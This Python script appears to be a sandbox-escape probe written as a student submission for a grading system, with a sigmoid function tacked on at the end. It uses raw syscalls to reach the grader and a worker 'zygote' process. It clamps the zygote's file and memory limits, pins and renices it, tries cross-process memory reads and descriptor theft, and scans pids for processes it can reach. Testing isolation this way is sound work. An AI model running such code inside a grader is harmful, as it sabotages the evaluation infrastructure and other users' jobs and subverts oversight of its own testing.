"""Reach the grader, the zygote and the lanes through calls that act on another process of the
same uid: find them by pidfd and by scanning pids (no /proc), then clamp their limits.

Bounded and harmless if it ever succeeds against anything but the zygote: the zygote gets the
real attack (RLIMIT_NOFILE and RLIMIT_AS clamped, pinned to one CPU, reniced);
everything else only gets calls that change nothing (a limit set to its own value, signal 0).
Prints ``<attack>: DONE`` or ``<attack>: blocked: <error>`` per attempt.
"""

import ctypes
import os
import resource
import struct

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
zygote = os.getppid()  # the worker's parent; no /proc needed
grader = int("__GRADER_PID__")
me = os.getpid()


def syscall(*args):
    ctypes.set_errno(0)
    result = libc.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if result < 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return result


def attempt(what, action):
    try:
        action()
        print(f"{what}: DONE", flush=True)
    except (OSError, ValueError) as exc:
        print(f"{what}: blocked: {exc.__class__.__name__}: {exc}", flush=True)


def pidfd_info(pidfd):
    """PIDFD_GET_INFO (Linux 6.13): the process's parent pid, found without /proc."""
    info = ctypes.create_string_buffer(struct.pack("=Q", 0b11) + bytes(56))
    syscall(16, pidfd, 0xC040FF0B, info)  # ioctl
    return struct.unpack_from("=QQIII", info.raw)[4]  # ppid


def find_lanes():
    fd = syscall(434, zygote, 0)  # pidfd_open
    print(f"zygote's parent: {pidfd_info(fd)}", flush=True)


attempt("pidfd_open", find_lanes)
attempt("pidfd_getfd", lambda: syscall(438, syscall(434, zygote, 0), 0, 0))
attempt("pidfd_send_signal", lambda: syscall(424, syscall(434, zygote, 0), 0, None, 0))
# the real attack on the zygote: every later student on it would fail (RLIMIT_CPU would kill
# it: the grader's own, tried below, is what kills a whole batch)
for name, value in (("NOFILE", 8), ("AS", 64 << 20)):
    which = getattr(resource, f"RLIMIT_{name}")
    attempt(f"prlimit-zygote-{name}", lambda w=which, v=value: resource.prlimit(zygote, w, (v, v)))
# the grader: a no-op write, which needs the same permission as a clamp
for name in ("CPU", "NOFILE", "AS"):
    which = getattr(resource, f"RLIMIT_{name}")
    attempt(
        f"prlimit-grader-{name}",
        lambda w=which: resource.prlimit(grader, w, resource.prlimit(grader, w)),
    )
attempt("sched_setaffinity", lambda: os.sched_setaffinity(zygote, {0}))
attempt("setpriority", lambda: os.setpriority(os.PRIO_PROCESS, zygote, 19))
attempt("setpriority-user", lambda: syscall(141, os.PRIO_USER, 0, 99))  # 99: out of range
attempt("ioprio_set", lambda: syscall(251, 1, zygote, (3 << 13) | 7))  # idle class
attempt("migrate_pages", lambda: syscall(256, zygote, 0, None, None))
attempt("move_pages", lambda: syscall(279, zygote, 0, None, None, None, 0))
attempt("get_robust_list", lambda: syscall(274, zygote, ctypes.byref(ctypes.c_void_p()), None))
attempt("kcmp", lambda: syscall(312, me, zygote, 0, 0, 0))
buf = ctypes.create_string_buffer(8)
iov = struct.pack("=QQ", ctypes.addressof(buf), 8)
attempt("process_vm_readv", lambda: syscall(310, zygote, iov, 1, iov, 1, 0))
attempt("kill-all", lambda: os.kill(-1, 0))
attempt("f_setown", lambda: __import__("fcntl").fcntl(os.pipe()[0], 8, zygote))
# find every process it could clamp by scanning pids (each probe reads, changes nothing)
reachable = []
for pid in range(max(2, me - 3000), me + 200):
    if pid == me:
        continue
    try:
        resource.prlimit(pid, resource.RLIMIT_NOFILE)
        reachable.append(pid)
    except (OSError, ValueError):
        pass
print(f"scan reached {len(reachable)} processes", flush=True)


def sigmoid(x):
    import torch

    return 1 / (1 + torch.exp(-x))
